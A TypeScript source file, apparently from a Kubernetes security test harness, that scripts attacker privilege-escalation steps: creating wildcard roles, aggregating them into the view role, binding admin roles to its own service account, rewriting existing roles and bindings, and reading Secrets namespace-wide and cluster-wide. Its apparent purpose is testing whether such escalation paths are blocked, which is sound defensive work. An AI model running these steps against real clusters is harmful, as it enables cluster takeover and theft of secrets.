// Roles and bindings: written by the attacker, then used.

import { MERGE, RBAC, untilAllowed, useNamespaceAdmin } from "../use.ts";
import type { CarryOuts } from "../carry-out.ts";
import { accepted, type Site } from "../site.ts";

const EVERYTHING = [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }];
const API = `/apis/${RBAC}/v1`;
const apiVersion = `${RBAC}/v1`;

const self = (site: Site) => [{ kind: "ServiceAccount", name: "builder", namespace: site.name("shop") }];
const rbacPath = (site: Site, resource: string) => `${API}/namespaces/${site.name("shop")}/${resource}`;

async function bindToSelf(site: Site, kind: "Role" | "ClusterRole", name: string): Promise<void> {
  const body = {
    apiVersion,
    kind: "RoleBinding",
    metadata: { name: "taken" },
    roleRef: { apiGroup: RBAC, kind, name },
    subjects: self(site),
  };
  accepted(await site.ask("POST", rbacPath(site, "rolebindings"), body), "to bind");
}

export const RBAC_CARRY_OUTS: CarryOuts = {
  "aggregate-role": {
    isAlone: true,
    run: async (site) => {
      const name = `${site.name("shop")}-aggregated`;
      const labels = { "rbac.authorization.k8s.io/aggregate-to-view": "true" };
      const body = { apiVersion, kind: "ClusterRole", metadata: { name, labels }, rules: EVERYTHING };
      accepted(await site.ask("POST", `${API}/clusterroles`, body), "to create the role");
      await useNamespaceAdmin(site, "shop");
      accepted(await site.admin("DELETE", `${API}/clusterroles/${name}`), "to clean up");
    },
  },
  "bind-cluster-role": {
    run: async (site) => {
      await bindToSelf(site, "ClusterRole", "admin");
      await useNamespaceAdmin(site, "shop");
    },
  },
  "bind-role": {
    run: async (site) => {
      await bindToSelf(site, "Role", "secret-reader");
      await untilAllowed(site, "GET", `/api/v1/namespaces/${site.name("shop")}/secrets`);
    },
  },
  "change-binding": {
    run: async (site) => {
      const path = `${rbacPath(site, "rolebindings")}/auditors`;
      accepted(await site.ask("PATCH", path, { subjects: self(site) }, MERGE), "to change the binding");
      await useNamespaceAdmin(site, "shop");
    },
  },
  "escalate-new-role": {
    run: async (site) => {
      const body = { apiVersion, kind: "Role", metadata: { name: "everything" }, rules: EVERYTHING };
      accepted(await site.ask("POST", rbacPath(site, "roles"), body), "to create the role");
      await bindToSelf(site, "Role", "everything");
      await useNamespaceAdmin(site, "shop");
    },
  },
  "escalate-role": {
    run: async (site) => {
      const path = `${rbacPath(site, "roles")}/builder`;
      accepted(await site.ask("PATCH", path, { rules: EVERYTHING }, MERGE), "to rewrite the role");
      await useNamespaceAdmin(site, "shop");
    },
  },
  "hold-cluster-admin": {
    run: async (site) => {
      accepted(await site.ask("GET", "/api/v1/secrets"), "to read every Secret");
      const labels = { metadata: { labels: { taken: "true" } } };
      const path = `/api/v1/namespaces/${site.name("shop")}`;
      accepted(await site.ask("PATCH", path, labels, MERGE), "to change a namespace");
    },
  },
  "hold-namespace-admin": {
    run: async (site) => {
      accepted(await site.ask("GET", `/api/v1/namespaces/${site.name("shop")}/secrets`), "to read Secrets");
      await bindToSelf(site, "ClusterRole", "admin");
    },
  },
};
